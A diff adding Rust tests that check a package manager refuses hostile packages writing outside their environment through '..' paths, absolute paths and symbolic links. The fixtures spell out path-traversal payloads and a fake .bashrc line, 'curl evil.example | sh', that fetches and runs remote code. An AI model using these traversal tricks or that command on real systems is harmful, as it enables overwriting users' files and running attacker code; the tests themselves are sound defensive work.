@@ -1115,6 +1115,10 @@ fn pip_setup_with(s: &Sandbox, pip_lines: &str) -> (PathBuf, PathBuf) {
                 .into_bytes(),
             executable: true,
             has_prefix: false,
+            mode: None,
+            symlink_to: None,
+            listed_as: None,
+            unlisted: false,
         })],
     )
     .unwrap();
@@ -1833,4 +1837,281 @@ fn an_unreachable_locked_wheel_leaves_no_environment_and_keeps_the_replaced_one(
         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
         .collect();
     assert_eq!(dirs, vec!["keep"]);
+}
+
+/// What a file outside the environment looks like: contents, inode and mode.
+#[derive(Debug, PartialEq)]
+struct FileState {
+    contents: String,
+    inode: u64,
+    mode: String,
+}
+
+fn file_state(path: &Path) -> FileState {
+    use std::os::unix::fs::MetadataExt as _;
+    let meta = std::fs::symlink_metadata(path)
+        .unwrap_or_else(|e| panic!("{} is gone: {e}", path.display()));
+    FileState {
+        contents: String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned(),
+        inode: meta.ino(),
+        mode: format!("{:o}", meta.mode()),
+    }
+}
+
+/// A file a hostile package aims at, made before each attempt: 0640, known contents.
+fn victim(path: &Path) -> FileState {
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    if !path.exists() {
+        std::fs::write(path, "the user's own file\n").unwrap();
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o640)).unwrap();
+    }
+    file_state(path)
+}
+
+/// One hostile package of issue 22 and the file it aims at. The sandbox puts the prefix
+/// (and its staging directory) and each cache entry four directories below the sandbox's
+/// root: `data/airlock/envs/NAME`, `cache/airlock/pkgs/ENTRY`.
+struct Attack {
+    name: &'static str,
+    /// The file outside (relative to the sandbox's root).
+    victim: &'static str,
+    /// The listed path the error must name.
+    listed: String,
+    package: PackageBuild,
+}
+
+fn attacks(root: &Path, format: testchannel::ArchiveFormat) -> Vec<Attack> {
+    let evil = |files: Vec<PackageFile>| {
+        files.into_iter().fold(
+            PackageBuild::new("evil", "1.0").format(format),
+            PackageBuild::file,
+        )
+    };
+    let dotdot = "../../../../victim.txt".to_owned();
+    let absolute = root.join("absolute-victim.txt").display().to_string();
+    let through = "L/../../../../../home/.bashrc".to_owned();
+    vec![
+        // `L -> d1/.../d5` in the cache entry brings the source back into the entry, while in
+        // the prefix `L` is first made a real directory: the destination is the sandbox's root.
+        Attack {
+            name: "symlink-and-dotdot",
+            victim: "home/.bashrc",
+            listed: through.clone(),
+            package: evil(vec![
+                PackageFile::data("d1/d2/d3/d4/d5/keep", "x\n"),
+                PackageFile::symlink("L", "d1/d2/d3/d4/d5").unlisted(),
+                PackageFile::data("home/.bashrc", "curl evil.example | sh\n").listed_as(&through),
+            ]),
+        },
+        // A symbolic link the package lists, and a file below it: no `..` anywhere.
+        Attack {
+            name: "through-shipped-symlink",
+            victim: "outside/victim.txt",
+            listed: "share/out/victim.txt".to_owned(),
+            package: evil(vec![
+                PackageFile::symlink("share/out", &root.join("outside").display().to_string()),
+                PackageFile::data("payload", "payload\n").listed_as("share/out/victim.txt"),
+            ]),
+        },
+        Attack {
+            name: "plain-dotdot",
+            victim: "victim.txt",
+            listed: dotdot.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", "payload\n").listed_as(&dotdot),
+            ]),
+        },
+        Attack {
+            name: "absolute",
+            victim: "absolute-victim.txt",
+            listed: absolute.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", "payload\n").listed_as(&absolute),
+            ]),
+        },
+        Attack {
+            name: "has-prefix-outside",
+            victim: "victim.txt",
+            listed: dotdot.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", format!("{}\n", testchannel::PREFIX_PLACEHOLDER))
+                    .with_prefix()
+                    .listed_as(&dotdot),
+            ]),
+        },
+        // The same through the older metadata only (`info/files`, `info/has_prefix`).
+        Attack {
+            name: "legacy-has-prefix-outside",
+            victim: "victim.txt",
+            listed: dotdot.clone(),
+            package: evil(vec![
+                PackageFile::data("payload", format!("{}\n", testchannel::PREFIX_PLACEHOLDER))
+                    .with_prefix()
+                    .listed_as(&dotdot),
+            ])
+            .legacy_metadata(),
+        },
+    ]
+}
+
+/// Issue 22, items 1 and 2: a package that lists a path outside its environment (through a
+/// symbolic link and `..`, a shipped symbolic link, a plain `..`, an absolute path, prefix
+/// replacement outside; `paths.json` or the older lists; `.conda` and `.tar.bz2`) is refused by
+/// `env create`, `env install --lock` and `env update`, with an error naming the package and
+/// the path (never a panic), before anything is linked: the file outside keeps its contents,
+/// inode and mode, and no environment looks complete. Every case runs; the failures are
+/// reported together.
+#[test]
+fn issue_22_a_package_never_reaches_outside_its_environment() {
+    let mut problems: Vec<String> = Vec::new();
+    for format in [
+        testchannel::ArchiveFormat::Conda,
+        testchannel::ArchiveFormat::TarBz2,
+    ] {
+        let names: Vec<&str> = attacks(Path::new("/x"), format)
+            .iter()
+            .map(|a| a.name)
+            .collect();
+        for name in names {
+            let s = Sandbox::new();
+            let root = s.path("");
+            // Built against this sandbox's root (some paths in the attack are absolute).
+            let attack = attacks(&root, format)
+                .into_iter()
+                .find(|a| a.name == name)
+                .unwrap();
+            std::fs::create_dir_all(root.join("outside")).unwrap();
+            let channel = s.path("evil-channel");
+            testchannel::build_channel(
+                &channel,
+                &[
+                    attack.package.clone(),
+                    PackageBuild::new("benign", "1.0").format(format),
+                ],
+            )
+            .unwrap();
+            let url = url::Url::from_directory_path(&channel).unwrap();
+            let victim_path = root.join(attack.victim);
+            let context = format!("{} ({format:?})", attack.name);
+            let mut attempt = |what: &str, args: &[&str]| {
+                let before = victim(&victim_path);
+                let out = s.run(args);
+                let err = String::from_utf8_lossy(&out.stderr).into_owned();
+                let after = std::fs::symlink_metadata(&victim_path)
+                    .ok()
+                    .map(|_| file_state(&victim_path));
+                if after.as_ref() != Some(&before) {
+                    problems.push(format!(
+                        "{context}, {what}: the file outside changed: {before:?} -> {after:?}"
+                    ));
+                    // Restored for the next command.
+                    let _ = std::fs::remove_file(&victim_path);
+                }
+                if out.status.success() {
+                    problems.push(format!("{context}, {what}: succeeded:\n{err}"));
+                } else if err.contains("panicked") || out.status.code().is_none() {
+                    problems.push(format!("{context}, {what}: crashed:\n{err}"));
+                } else if !(err.contains("evil-1.0-0") && err.contains(&attack.listed)) {
+                    problems.push(format!(
+                        "{context}, {what}: the error names neither package nor path:\n{err}"
+                    ));
+                }
+                if err.contains("corrupt") {
+                    problems.push(format!(
+                        "{context}, {what}: the cache check read the listed paths:\n{err}"
+                    ));
+                }
+                if !leftovers(&s.envs_dir()).is_empty() {
+                    problems.push(format!(
+                        "{context}, {what}: left {:?}",
+                        leftovers(&s.envs_dir())
+                    ));
+                }
+            };
+
+            attempt(
+                "create",
+                &["env", "create", "-n", "made", "-c", url.as_str(), "evil"],
+            );
+            let yml = s.write(
+                "evil.yml",
+                &format!("name: evil\nchannels:\n  - {url}\ndependencies:\n  - evil\n"),
+            );
+            let lock = s.path("work").join("evil.lock");
+            s.ok(&[
+                "env",
+                "lock",
+                "-f",
+                yml.to_str().unwrap(),
+                "-o",
+                lock.to_str().unwrap(),
+            ]);
+            attempt(
+                "install --lock",
+                &[
+                    "env",
+                    "install",
+                    "--lock",
+                    lock.to_str().unwrap(),
+                    "-n",
+                    "locked",
+                ],
+            );
+            s.ok(&["env", "create", "-n", "base", "-c", url.as_str(), "benign"]);
+            let tree = tree_bytes(&s.prefix("base"));
+            attempt(
+                "update",
+                &["env", "update", "-n", "base", "-c", url.as_str(), "evil"],
+            );
+            for env in ["made", "locked"] {
+                if s.prefix(env).exists() {
+                    problems.push(format!("{context}: the environment {env} was left"));
+                }
+            }
+            if tree_bytes(&s.prefix("base")) != tree {
+                problems.push(format!(
+                    "{context}: the failed update changed the environment"
+                ));
+            }
+        }
+    }
+    assert!(problems.is_empty(), "{}", problems.join("\n\n"));
+}
+
+/// Issue 22, item 1: a symbolic link already in the environment (shipped by a package
+/// installed earlier, pointing outside) is not a way out for a later package that lists a
+/// path below it: the update is refused by the check of the environment's parents (the
+/// listed path alone is harmless), and the file outside is untouched.
+#[test]
+fn issue_22_an_update_never_writes_through_a_symbolic_link_in_the_environment() {
+    let s = Sandbox::new();
+    let outside = s.path("outside");
+    let victim_path = outside.join("victim.txt");
+    let before = victim(&victim_path);
+    let channel = s.path("channel");
+    testchannel::build_channel(
+        &channel,
+        &[
+            PackageBuild::new("linker", "1.0").file(PackageFile::symlink(
+                "share/x",
+                &outside.display().to_string(),
+            )),
+            PackageBuild::new("writer", "1.0")
+                .file(PackageFile::data("share/x/victim.txt", "payload\n")),
+        ],
+    )
+    .unwrap();
+    let url = url::Url::from_directory_path(&channel).unwrap();
+    s.ok(&["env", "create", "-n", "e", "-c", url.as_str(), "linker"]);
+    let tree = tree_bytes(&s.prefix("e"));
+    let err = s.fails(&["env", "update", "-n", "e", "-c", url.as_str(), "writer"]);
+    assert_eq!(file_state(&victim_path), before, "{err}");
+    assert!(
+        err.contains("writer-1.0-0") && err.contains("share/x/victim.txt"),
+        "{err}"
+    );
+    assert!(err.contains("symbolic link"), "{err}");
+    assert!(tree_bytes(&s.prefix("e")) == tree);
+    assert!(leftovers(&s.envs_dir()).is_empty());
 }
